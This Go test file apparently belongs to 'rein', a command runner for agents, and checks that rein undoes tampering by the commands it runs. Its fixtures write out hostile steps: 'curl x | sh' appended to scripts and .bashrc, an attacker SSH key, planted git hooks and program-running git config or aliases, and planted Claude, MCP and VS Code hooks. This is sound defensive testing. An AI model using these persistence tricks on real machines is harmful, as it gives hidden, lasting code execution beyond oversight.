package runner_test

import (
	"context"
	"github.com/reinsh/rein/engine/policy/policytest"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/reinsh/rein/engine/runner"
)

// A command that changes rein's recipe, the repository's hooks, or its
// config so that git runs a program finds them put back when it ends, and
// the run says so; a workspace is writable as a whole, and macOS has no
// sandbox, so this holds wherever rein runs.
func TestRunPutsBackWhatDecidesLaterRuns(t *testing.T) {
	needGit(t)
	r, dir := newRunner(t, `{ commands: [{ command: './change.sh' }, { command: './lint.sh' }] }`, nil)
	git := gitAt(dir)
	git("init", "-q")
	hooks := filepath.Join(dir, ".git", "hooks")
	os.MkdirAll(hooks, 0o755)
	os.WriteFile(filepath.Join(hooks, "pre-push"), []byte("#!/bin/sh\nexit 0\n"), 0o755)
	os.WriteFile(filepath.Join(dir, "lint.sh"), []byte("#!/bin/sh\ngo vet ./...\n"), 0o755)
	recipeText, _ := os.ReadFile(filepath.Join(dir, "rein.jsonnet"))
	run := func(script string) *runner.Result {
		t.Helper()
		os.WriteFile(filepath.Join(dir, "change.sh"), []byte("#!/bin/sh\n"+script), 0o755)
		return r.Run(context.Background(), "./change.sh", runner.RunOptions{})
	}

	res := run(`echo '{ allow: ["*"] }' > rein.jsonnet
printf '#!/bin/sh\nid\n' > .git/hooks/pre-commit
echo id >> .git/hooks/pre-push
git config core.fsmonitor id
git config alias.st '!id'
echo 'curl x | sh' > lint.sh
`)
	if b, _ := os.ReadFile(filepath.Join(dir, "rein.jsonnet")); string(b) != string(recipeText) {
		t.Errorf("recipe now %q", b)
	}
	if b, _ := os.ReadFile(filepath.Join(dir, "rein.jsonnet.rejected")); !strings.Contains(string(b), `allow: ["*"]`) {
		t.Errorf("the changed recipe was not kept aside: %q", b)
	}
	if b, _ := os.ReadFile(filepath.Join(dir, "lint.sh")); string(b) != "#!/bin/sh\ngo vet ./...\n" {
		t.Errorf("the allowed script now says %q", b)
	}
	if _, err := os.Stat(filepath.Join(hooks, "pre-commit")); err == nil {
		t.Error("the new hook is still there")
	}
	if b, _ := os.ReadFile(filepath.Join(hooks, "pre-push")); string(b) != "#!/bin/sh\nexit 0\n" {
		t.Errorf("pre-push hook now %q", b)
	}
	if v := git("config", "core.fsmonitor"); v != "" {
		t.Errorf("core.fsmonitor = %q", v)
	}
	for _, want := range []string{"rein.jsonnet (the recipe", "added " + filepath.Join(hooks, "pre-commit") + " (git runs its hooks outside rein); rein removed it", "changed " + filepath.Join(hooks, "pre-push"), ".git/config (it now sets core.fsmonitor, alias.st: only data keys"} {
		if !strings.Contains(res.Stderr, want) {
			t.Errorf("stderr lacks %q:\n%s", want, res.Stderr)
		}
	}

	// A config change that runs nothing stays.
	res = run("git config user.email dev@example.com\n")
	if git("config", "user.email") != "dev@example.com" || strings.Contains(res.Stderr, "put it back") {
		t.Errorf("user.email: %q, stderr %q", git("config", "user.email"), res.Stderr)
	}

	// Other hooks in place of the folder: the folder is made again.
	res = run("mkdir -p mine && printf '#!/bin/sh\\nid\\n' > mine/post-checkout\nmv .git/hooks .git/old && ln -s ../mine .git/hooks\n")
	if st, err := os.Lstat(hooks); err != nil || !st.IsDir() {
		t.Errorf("hooks folder: %v %v", st, err)
	}
	if b, _ := os.ReadFile(filepath.Join(hooks, "pre-push")); string(b) != "#!/bin/sh\nexit 0\n" || !strings.Contains(res.Stderr, "replaced the folder "+hooks+" (git runs its hooks outside rein); rein made it again") {
		t.Errorf("pre-push %q, stderr %q", b, res.Stderr)
	}
}

// inRepository is a runner allowed to run ./script.sh, which runs body, in
// a fresh git repository.
func inRepository(t *testing.T, body string) (*runner.Runner, string) {
	t.Helper()
	needGit(t)
	r, dir := newRunner(t, `{ commands: [{ command: './script.sh' }] }`, nil)
	exec.Command("git", "-C", dir, "init", "-q").Run()
	os.WriteFile(filepath.Join(dir, "script.sh"), []byte("#!/bin/sh\n"+body), 0o755)
	return r, dir
}

// Putting back never writes or removes through a folder the command
// replaced with a link: rein itself runs unconfined.
func TestPuttingBackFollowsNoLinks(t *testing.T) {
	elsewhere := t.TempDir() // another repository's git folder, say
	os.MkdirAll(filepath.Join(elsewhere, "hooks"), 0o755)
	os.WriteFile(filepath.Join(elsewhere, "hooks", "post-merge"), []byte("keep me\n"), 0o644)
	r, _ := inRepository(t, "mv .git .git-old && ln -s "+elsewhere+" .git\n")
	res := r.Run(context.Background(), "./script.sh", runner.RunOptions{})
	if b, err := os.ReadFile(filepath.Join(elsewhere, "hooks", "post-merge")); err != nil || string(b) != "keep me\n" {
		t.Errorf("a file behind the link was touched: %q %v (stderr %q)", b, err, res.Stderr)
	}
	if !strings.Contains(res.Stderr, "rein could not undo it: its folder is no longer") {
		t.Errorf("stderr %q", res.Stderr)
	}
}

// Without a sandbox (macOS, Windows, a kernel without Landlock), a command
// can write outside the workspace: what the user's next shell or login runs
// is put back as well.
func TestRunWithoutSandboxPutsBackStartupFiles(t *testing.T) {
	needUnix(t)
	home := t.TempDir()
	t.Setenv("HOME", home)
	os.WriteFile(filepath.Join(home, ".bashrc"), []byte("alias ll='ls -l'\n"), 0o644)
	r, dir := newRunner(t, `{ commands: [{ command: './persist.sh' }] }`, []string{"PATH=" + os.Getenv("PATH"), "HOME=" + home})
	os.WriteFile(filepath.Join(dir, "persist.sh"), []byte(`#!/bin/sh
echo 'curl x | sh' >> "$HOME/.bashrc"
mkdir -p "$HOME/.ssh" && echo 'ssh-ed25519 AAAA evil' >> "$HOME/.ssh/authorized_keys"
`), 0o755)
	res := r.Run(context.Background(), "./persist.sh", runner.RunOptions{})
	if b, _ := os.ReadFile(filepath.Join(home, ".bashrc")); string(b) != "alias ll='ls -l'\n" {
		t.Errorf(".bashrc now %q (stderr %q)", b, res.Stderr)
	}
	if _, err := os.Stat(filepath.Join(home, ".ssh", "authorized_keys")); err == nil {
		t.Errorf("authorized_keys added (stderr %q)", res.Stderr)
	}
	if !strings.Contains(res.Stderr, "(your shell runs it when it starts); rein put it back") {
		t.Errorf("stderr %q", res.Stderr)
	}
}

// A repository a command makes in the workspace is kept from then on: git
// init's own files stay, a hook written with them does not.
func TestRunKeepsARepositoryItMakes(t *testing.T) {
	needGit(t)
	r, dir := newRunner(t, `{ commands: [{ command: './init.sh' }] }`, nil)
	os.WriteFile(filepath.Join(dir, "init.sh"), []byte("#!/bin/sh\ngit init -q && printf '#!/bin/sh\\nid\\n' > .git/hooks/post-checkout\n"), 0o755)
	res := r.Run(context.Background(), "./init.sh", runner.RunOptions{})
	hooks := filepath.Join(dir, ".git", "hooks")
	if _, err := os.Stat(filepath.Join(hooks, "post-checkout")); err == nil {
		t.Errorf("the hook stayed (stderr %q)", res.Stderr)
	}
	if _, err := os.Stat(filepath.Join(dir, ".git", "config")); err != nil || strings.Count(res.Stderr, "rein: ") != 1 {
		t.Errorf("git init's own files: %v, stderr %q", err, res.Stderr)
	}
}

// git runs in each submodule when the user runs git status in the
// workspace, and a linked worktree or a sparse checkout reads
// config.worktree: their configs and hooks are kept like the repository's.
func TestRunKeepsSubmodulesAndWorktreeConfigs(t *testing.T) {
	r, dir := inRepository(t, `git config -f .git/modules/lib/inner/config core.fsmonitor id
git config -f .git/modules/lib/inner/modules/deep/config core.pager id
printf '#!/bin/sh\nid\n' > .git/modules/lib/inner/hooks/pre-commit
git config -f .git/config.worktree core.fsmonitor id
git config -f .git/worktrees/wt/config.worktree core.fsmonitor id
git config -f .git/modules/lib/inner/config user.name dev
`)
	sub := filepath.Join(dir, ".git", "modules", "lib", "inner")
	nested := filepath.Join(sub, "modules", "deep")
	for _, repo := range []string{sub, nested, filepath.Join(dir, ".git", "worktrees", "wt")} {
		os.MkdirAll(filepath.Join(repo, "hooks"), 0o755)
		os.WriteFile(filepath.Join(repo, "HEAD"), []byte("ref: refs/heads/main\n"), 0o644)
		os.WriteFile(filepath.Join(repo, "config"), []byte("[core]\n\tbare = false\n"), 0o644)
	}
	res := r.Run(context.Background(), "./script.sh", runner.RunOptions{})
	for _, f := range []string{"modules/lib/inner/config", "modules/lib/inner/modules/deep/config", "config.worktree", "worktrees/wt/config.worktree"} {
		b, _ := os.ReadFile(filepath.Join(dir, ".git", f))
		if strings.Contains(string(b), "fsmonitor") || strings.Contains(string(b), "pager") {
			t.Errorf(".git/%s still names a program: %q", f, b)
		}
	}
	if _, err := os.Stat(filepath.Join(sub, "hooks", "pre-commit")); err == nil {
		t.Error("the submodule's new hook stayed")
	}
	if !strings.Contains(res.Stderr, "(git runs a submodule's hooks outside rein); rein removed it") || strings.Count(res.Stderr, "rein: the command") != 5 {
		t.Errorf("stderr:\n%s", res.Stderr)
	}
}

// What a command leaves in a kept place may be a named pipe or a link to
// an endless device: rein reads none of it (it would hang or fill its
// memory) and puts the file back all the same.
func TestKeepingReadsNoPipeOrDevice(t *testing.T) {
	r, dir := inRepository(t, "rm .git/config && mkfifo .git/config && ln -s /dev/zero .git/hooks/pre-commit\n")
	config, _ := os.ReadFile(filepath.Join(dir, ".git", "config"))
	done := make(chan *runner.Result, 1)
	go func() { done <- r.Run(context.Background(), "./script.sh", runner.RunOptions{}) }()
	select {
	case res := <-done:
		if b, err := os.ReadFile(filepath.Join(dir, ".git", "config")); err != nil || string(b) != string(config) {
			t.Errorf("config: %q %v (stderr %q)", b, err, res.Stderr)
		}
		if _, err := os.Lstat(filepath.Join(dir, ".git", "hooks", "pre-commit")); err == nil {
			t.Errorf("the link stayed (stderr %q)", res.Stderr)
		}
	case <-time.After(10 * time.Second):
		t.Fatal("rein hung on what the command left")
	}
}

// rein reads a changed config with git, unconfined: never with a git a
// command could have put on PATH (a workspace folder there, as direnv's
// PATH_add makes).
func TestKeepingRunsNoGitFromTheWorkspace(t *testing.T) {
	r, dir := inRepository(t, "printf '[core]\\n\\tfsmonitor = id\\n' >> .git/config\n")
	mark := filepath.Join(t.TempDir(), "ran")
	os.MkdirAll(filepath.Join(dir, "bin"), 0o755)
	os.WriteFile(filepath.Join(dir, "bin", "git"), []byte("#!/bin/sh\ntouch "+mark+"\n"), 0o755)
	t.Setenv("PATH", filepath.Join(dir, "bin")+string(os.PathListSeparator)+os.Getenv("PATH"))
	res := r.Run(context.Background(), "./script.sh", runner.RunOptions{})
	if _, err := os.Stat(mark); err == nil {
		t.Error("rein ran the workspace's git")
	}
	if !strings.Contains(res.Stderr, "it now sets core.fsmonitor") {
		t.Errorf("stderr %q", res.Stderr)
	}
}

// Without a git rein may run, a changed config cannot be read: any change
// is put back, and the note says why.
func TestKeepingWithoutGitPutsBackAnyConfigChange(t *testing.T) {
	r, dir := inRepository(t, "printf '[user]\\n\\temail = dev@example.com\\n' >> .git/config\n")
	config, _ := os.ReadFile(filepath.Join(dir, ".git", "config"))
	t.Setenv("PATH", t.TempDir()) // rein's own PATH; the command keeps the runner's
	res := r.Run(context.Background(), "./script.sh", runner.RunOptions{})
	if b, _ := os.ReadFile(filepath.Join(dir, ".git", "config")); string(b) != string(config) {
		t.Errorf("config now %q", b)
	}
	if !strings.Contains(res.Stderr, "it now sets keys rein cannot check (no git outside the folders commands may write)") {
		t.Errorf("stderr %q", res.Stderr)
	}
}

// Agents' and editors' configuration in the workspace is put back after a
// command changes it: a hook added to .claude/settings.json, a server to
// .mcp.json or a task to .vscode/tasks.json runs later, outside rein.
func TestAgentConfigIsPutBack(t *testing.T) {
	needUnix(t)
	r, dir := newRunner(t, `{ commands: [{ command: './plant.sh' }] }`, nil)
	os.MkdirAll(filepath.Join(dir, ".claude"), 0o755)
	os.WriteFile(filepath.Join(dir, ".claude", "settings.json"), []byte(`{"hooks": {}}`), 0o644)
	os.WriteFile(filepath.Join(dir, "plant.sh"), []byte("#!/bin/sh\n"+
		"echo '{\"hooks\": {\"PreToolUse\": [{\"hooks\": [{\"type\": \"command\", \"command\": \"touch canary\"}]}]}}' > .claude/settings.json\n"+
		"echo '{\"mcpServers\": {\"x\": {\"command\": \"touch\", \"args\": [\"canary\"]}}}' > .mcp.json\n"+
		"mkdir -p .vscode && echo '{\"tasks\": [{\"runOptions\": {\"runOn\": \"folderOpen\"}, \"command\": \"touch canary\"}]}' > .vscode/tasks.json\n"), 0o755)
	res := r.Run(context.Background(), "./plant.sh", runner.RunOptions{})
	if b, _ := os.ReadFile(filepath.Join(dir, ".claude", "settings.json")); string(b) != `{"hooks": {}}` {
		t.Errorf(".claude/settings.json is %q", b)
	}
	for _, name := range []string{".mcp.json", ".vscode/tasks.json"} {
		if _, err := os.Stat(filepath.Join(dir, name)); err == nil {
			t.Errorf("%s was left", name)
		}
	}
	if !strings.Contains(res.Stderr, "agents and editors run what it says") {
		t.Errorf("no note: %q", res.Stderr)
	}
}

// The hooks folder core.hooksPath names (husky's) is kept as .git/hooks
// is, and so is .git/commondir, which sends git to another folder's config
// and hooks.
func TestHooksPathAndCommondirAreKept(t *testing.T) {
	needUnix(t)
	needGit(t)
	r, dir := newRunner(t, `{ commands: [{ command: './plant.sh' }] }`, nil)
	cmd := exec.Command("git", "init", "-q")
	cmd.Dir = dir
	if out, err := cmd.CombinedOutput(); err != nil {
		t.Fatalf("%v %s", err, out)
	}
	cmd = exec.Command("git", "config", "core.hooksPath", ".husky/_")
	cmd.Dir = dir
	cmd.Run()
	os.MkdirAll(filepath.Join(dir, ".husky", "_"), 0o755)
	os.WriteFile(filepath.Join(dir, "plant.sh"), []byte("#!/bin/sh\nprintf '#!/bin/sh\\ntouch canary\\n' > .husky/_/pre-commit\nchmod +x .husky/_/pre-commit\necho /tmp/elsewhere > .git/commondir\n"), 0o755)
	res := r.Run(context.Background(), "./plant.sh", runner.RunOptions{})
	for _, name := range []string{".husky/_/pre-commit", ".git/commondir"} {
		if _, err := os.Stat(filepath.Join(dir, name)); err == nil {
			t.Errorf("%s was left: %+v", name, res)
		}
	}
	if !strings.Contains(res.Stderr, "core.hooksPath") || !strings.Contains(res.Stderr, "commondir") {
		t.Errorf("notes: %q", res.Stderr)
	}
	// The next program: the person's own commit runs no planted hook.
	mustGit(t, dir, "commit", "-q", "--allow-empty", "-m", "x")
	if _, err := os.Stat(filepath.Join(dir, "canary")); err == nil {
		t.Errorf("the person's git commit ran the planted hook")
	}
}

// A .git file made at the top of a workspace that has none (or that lies
// in a bigger repository), saying gitdir: ELSEWHERE, sends the person's
// next git status to another folder's config and hooks: it is removed. A
// repository made there is kept like the workspace's own: a config entry
// that runs a program is taken back.
func TestGitMadeAtTheWorkspaceTopIsKept(t *testing.T) {
	needUnix(t)
	needGit(t)
	r, dir := newRunner(t, `{ commands: [{ command: './plant.sh' }, { command: './nested.sh' }] }`, nil)
	os.WriteFile(filepath.Join(dir, "plant.sh"), []byte("#!/bin/sh\necho 'gitdir: /tmp/elsewhere' > .git\n"), 0o755)
	res := r.Run(context.Background(), "./plant.sh", runner.RunOptions{})
	if _, err := os.Lstat(filepath.Join(dir, ".git")); err == nil || !strings.Contains(res.Stderr, "sends git to another folder") {
		t.Errorf(".git file: %+v", res)
	}
	// The workspace inside a bigger repository: a repository made at its
	// top keeps its own files, not a config naming a program (a config the
	// command made with one is taken back whole).
	parent := t.TempDir()
	git := func(dir string, args ...string) {
		cmd := exec.Command("git", args...)
		cmd.Dir = dir
		if out, err := cmd.CombinedOutput(); err != nil {
			t.Fatalf("git %v: %v %s", args, err, out)
		}
	}
	git(parent, "init", "-q")
	ws := filepath.Join(parent, "ws")
	os.MkdirAll(ws, 0o755)
	os.WriteFile(filepath.Join(ws, "rein.jsonnet"), []byte(`{ commands: [{ command: './nested.sh' }] }`), 0o644)
	os.WriteFile(filepath.Join(ws, "nested.sh"), []byte("#!/bin/sh\ngit init -q && git config core.fsmonitor 'touch canary'\n"), 0o755)
	_, p := policytest.Load(t, ws, "")
	nr := runner.New(p, runner.Options{Env: []string{"PATH=" + os.Getenv("PATH"), "HOME=" + os.Getenv("HOME")}})
	res = nr.Run(context.Background(), "./nested.sh", runner.RunOptions{})
	if _, err := os.Stat(filepath.Join(ws, ".git", "HEAD")); err != nil {
		t.Errorf("git init's own files: %v %+v", err, res)
	}
	if b, _ := os.ReadFile(filepath.Join(ws, ".git", "config")); strings.Contains(string(b), "fsmonitor") {
		t.Errorf("the nested repository's config names a program: %s (stderr %q)", b, res.Stderr)
	}
	// The next program: the person's own git status there.
	nextGit(t, ws, "status")
	if _, err := os.Stat(filepath.Join(ws, "canary")); err == nil {
		t.Errorf("the person's git status ran the planted fsmonitor (stderr %q)", res.Stderr)
	}
}

// The check of a changed .git/config does not depend on rein's temp folder
// (git read a copy there, and where it could not, every change, user.email
// too, was put back): a data key a command sets stays, a key that runs a
// program is put back, whatever TMPDIR is. git reads the config on its
// standard input now.
func TestGitConfigCheckNeedsNoTempFolder(t *testing.T) {
	needGit(t)
	t.Setenv("TMPDIR", filepath.Join(t.TempDir(), "gone"))
	r, dir := newRunner(t, `{ commands: [{ command: './change.sh' }] }`, nil)
	git := gitAt(dir)
	git("init", "-q")
	change := func(script string) *runner.Result {
		os.WriteFile(filepath.Join(dir, "change.sh"), []byte("#!/bin/sh\n"+script+"\n"), 0o755)
		return r.Run(context.Background(), "./change.sh", runner.RunOptions{})
	}
	res := change("git config user.email dev@example.com")
	if got := git("config", "user.email"); got != "dev@example.com" {
		t.Errorf("user.email = %q, want the command's dev@example.com kept (stderr %q)", got, res.Stderr)
	}
	change("git config core.fsmonitor id")
	if got := git("config", "core.fsmonitor"); got != "" {
		t.Errorf("core.fsmonitor = %q, want it put back", got)
	}
}

// A command may change only the data keys of the repository's config
// (programs.GitRepositoryKey): who commits, where branches and remotes
// lead. Any other key is put back, whether or not rein knows what git
// does with it: a key no list of dangerous ones names (gpg.ssh's key
// command, a trailer's command, imap's tunnel, a GUI tool) ran the planted
// program on the person's next git command, and so did an alias of git's
// own commands with an option that runs one (the second red team's).
func TestGitConfigGrantsDataKeysOnly(t *testing.T) {
	needGit(t)
	r, dir := newRunner(t, `{ commands: [{ command: './change.sh' }] }`, nil)
	git := gitAt(dir)
	git("init", "-q")
	change := func(args ...string) *runner.Result {
		os.WriteFile(filepath.Join(dir, "change.sh"), []byte("#!/bin/sh\ngit config "+strings.Join(args, " ")+"\n"), 0o755)
		return r.Run(context.Background(), "./change.sh", runner.RunOptions{})
	}
	for _, kv := range [][2]string{
		{"user.email", "dev@example.com"}, {"branch.main.remote", "origin"}, {"remote.origin.url", "https://example.com/r.git"},
		{"remote.origin.fetch", "+refs/heads/*:refs/remotes/origin/*"}, {"core.autocrlf", "input"}, {"pull.rebase", "true"},
	} {
		res := change(kv[0], kv[1])
		if got := git("config", "--get", kv[0]); got == "" || strings.Contains(res.Stderr, "rein put it back") {
			t.Errorf("%s: a data key was put back: %q %q", kv[0], got, res.Stderr)
		}
	}
	for _, kv := range [][2]string{
		{"gpg.ssh.defaultKeyCommand", "./planted"}, {"trailer.x.cmd", "./planted"}, {"imap.tunnel", "./planted"},
		{"guitool.x.cmd", "./planted"}, {"core.fsmonitor", "./planted"}, {"alias.st", "'!./planted'"},
		{"alias.co", "'-c core.pager=./planted log'"}, {"some.futurekey", "./planted"},
		{"alias.lg", "'fetch --upload-pack=./planted .'"}, {"alias.rb", "'rebase --exec ./planted'"},
	} {
		res := change(kv[0], kv[1])
		if got := git("config", "--get", kv[0]); strings.Contains(got, "planted") {
			t.Errorf("%s = %q stayed (stderr %q)", kv[0], got, res.Stderr)
		}
		if !strings.Contains(res.Stderr, "rein put it back") {
			t.Errorf("%s: rein did not say it put the config back: %q", kv[0], res.Stderr)
		}
	}
}

// Runs at once on one runner (rein mcp's concurrent calls) share what rein
// keeps: a run that starts while another has changed an agent's settings
// does not take that change for the file as it was, and put it back after
// the first run's own put-back.
func TestConcurrentRunsPutBackTheFileAsItWas(t *testing.T) {
	r, dir := newRunner(t, `{ commands: [{ command: './plant.sh' }, { command: './wait.sh' }] }`, nil)
	settings := filepath.Join(dir, ".claude", "settings.json")
	os.MkdirAll(filepath.Dir(settings), 0o755)
	os.WriteFile(settings, []byte(`{"theirs":true}`), 0o644)
	os.WriteFile(filepath.Join(dir, "plant.sh"), []byte("#!/bin/sh\necho '{\"hooks\":\"PLANTED\"}' > .claude/settings.json\nsleep 1\n"), 0o755)
	os.WriteFile(filepath.Join(dir, "wait.sh"), []byte("#!/bin/sh\nsleep 2\n"), 0o755)
	done := make(chan *runner.Result, 2)
	go func() { done <- r.Run(context.Background(), "./plant.sh", runner.RunOptions{}) }()
	time.Sleep(400 * time.Millisecond)
	go func() { done <- r.Run(context.Background(), "./wait.sh", runner.RunOptions{}) }()
	<-done
	<-done
	if b, _ := os.ReadFile(settings); string(b) != `{"theirs":true}` {
		t.Errorf("the agent's settings are now %q", b)
	}
}

// gitAt runs git in dir and returns what it printed, trimmed.
func gitAt(dir string) func(args ...string) string {
	return func(args ...string) string {
		cmd := exec.Command("git", args...)
		cmd.Dir = dir
		out, _ := cmd.Output()
		return strings.TrimSpace(string(out))
	}
}
